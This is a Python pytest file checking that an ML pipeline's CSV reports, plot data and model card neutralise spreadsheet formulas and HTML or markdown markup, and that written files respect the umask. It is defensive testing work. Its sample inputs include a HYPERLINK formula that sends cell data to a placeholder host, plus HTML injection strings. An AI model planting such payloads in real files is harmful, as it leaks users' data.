"""Text is never a formula in a spreadsheet or markup in a page; new files follow the umask."""

from __future__ import annotations

import csv
import os
import stat
from collections.abc import Iterator
from pathlib import Path

import numpy as np
import pytest
import torch
from hypothesis import given
from hypothesis import strategies as st
from safetensors.torch import save_file

from features.files.csv_text import guarded, unguarded
from features.files.reasons import NOTICED, REJECTED, SEEN, read_reasons, write_reasons
from features.files.records import write_json
from features.files.writing import follow_umask, replacing, seal
from pipeline.compare.sources import read_run
from pipeline.report.evaluate import evaluate, write_report
from pipeline.report.model_card import model_card
from tests.pipeline.commands.test_compare import same
from tests.support.runs.fake_run import FakeRun

CLASSES = ('=HYPERLINK("http://x.invalid/?"&A1,"x")', "@SUM(A1)", "+1+1", "'-quoted", "<b>x</b>")
FORMULAS = ("=", "+", "-", "@", "\t", "\r")


@given(st.text("=+-@'\t\r1.e a", max_size=6))
def test_guarded_text_is_no_formula_and_is_unguarded_exactly(text: str) -> None:
    written = str(guarded(text))
    assert unguarded(written) == text
    if written.startswith(FORMULAS):
        assert np.isfinite(float(written))


@given(st.text(max_size=8))
def test_any_text_is_unguarded_exactly(text: str) -> None:
    assert unguarded(str(guarded(text))) == text


@pytest.mark.parametrize("name", [REJECTED, NOTICED, SEEN])
def test_lists_of_reasons_are_read_as_written(tmp_path: Path, name: str) -> None:
    reasons = {"=1+1": "@now", "-7": "cut", "'=x": "-2 samples", "plain": "'tis"}
    write_reasons(tmp_path / name, reasons)
    assert read_reasons(tmp_path / name) == reasons
    with (tmp_path / name).open(newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert [cell for cell in cells if cell.startswith(FORMULAS)] == ["-7"]  # a number


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> FakeRun:
    fake = FakeRun(tmp_path_factory.mktemp("run"), CLASSES, speaker_name="=speaker {}", each=15)
    write_report(evaluate(fake.write().run, fake.data), fake.root / "reports")
    return fake


def test_reports_hold_no_formula_and_are_read_as_they_were(run: FakeRun) -> None:
    for name in ("predictions.csv", "confusion.csv", "history.csv"):
        with (run.root / "reports" / name).open(newline="", encoding="utf-8") as file:
            cells = [cell for row in csv.reader(file) for cell in row]
        assert [cell for cell in cells if cell.startswith(FORMULAS)] == []
    folder = read_run(str(run.run))
    assert folder.classes == CLASSES
    for name in ("predictions.csv", "predictions.parquet"):
        assert same(read_run(str(run.root / "reports" / name)), folder)


def test_data_of_plots_holds_no_markup(run: FakeRun) -> None:
    """DVC writes it into a page as it is."""
    text = (run.root / "reports" / "confusion.csv").read_text(encoding="utf-8")
    assert "&lt;b&gt;x&lt;/b&gt;" in text
    assert not {"<", ">"} & set(text)
    with (run.root / "reports" / "confusion.csv").open(newline="", encoding="utf-8") as file:
        names = {row["label"] for row in csv.DictReader(file)}
    assert not {sign for name in names for sign in name.removeprefix("'")} & set("<>\"'")


def test_the_model_card_shows_names_as_they_are(run: FakeRun) -> None:
    evil = "**x** [a](http://x.invalid) <img src=x> _y_ a_b `c` $z$ | d"
    head = run.head({}) | {"classes": [evil, "sad"], "inputs": {"a": "``b`"}}
    card = {"title": f"{evil}\n# more", "licence": evil, "protocol": "speaker_split"}
    kept = [[{"epoch": "1"} | {f"valid_{n}": "0.5" for n in ("accuracy", "uar")}]] * 2
    for fold in kept[0]:
        fold |= {"valid_macro_f1": "0.5", "valid_weighted_f1": "0.5"}
    text = model_card(head, card, kept)
    plain = r"\*\*x\*\* \[a\](http://x.invalid) \<img src=x\> \_y\_ a_b \`c\` \$z\$ \| d"
    assert f"# blend on {plain} # more\n" in text
    assert f"emotions apart: {plain}, sad." in text
    assert f"- Licence: {plain}\n" in text
    assert "- Protocol: speaker_split" in text
    assert '```` {"a": "``b`"} ````' not in text
    assert '``` {"a": "``b`"} ```' in text


@pytest.fixture(params=[0o022, 0o027, 0o002])
def umask(request: pytest.FixtureRequest) -> Iterator[int]:
    before = os.umask(request.param)
    yield request.param
    os.umask(before)


def test_new_files_follow_the_umask(tmp_path: Path, umask: int) -> None:
    def mode(path: Path) -> int:
        return stat.S_IMODE(path.stat().st_mode)

    weights = tmp_path / "model.safetensors"
    save_file({"a": torch.zeros(1)}, weights)
    follow_umask(weights)
    with replacing(tmp_path / "a.txt") as temporary:
        temporary.write_text("a")
    write_reasons(tmp_path / "rejected.csv", {})
    write_json(tmp_path / "a.json", {})
    for name in ("model.safetensors", "a.txt", "rejected.csv", "a.json"):
        assert mode(tmp_path / name) == 0o666 & ~umask
    seal(tmp_path / "a.txt")
    assert mode(tmp_path / "a.txt") == 0o444 & ~umask
    assert sorted(path.name for path in tmp_path.iterdir() if path.name.startswith(".")) == []
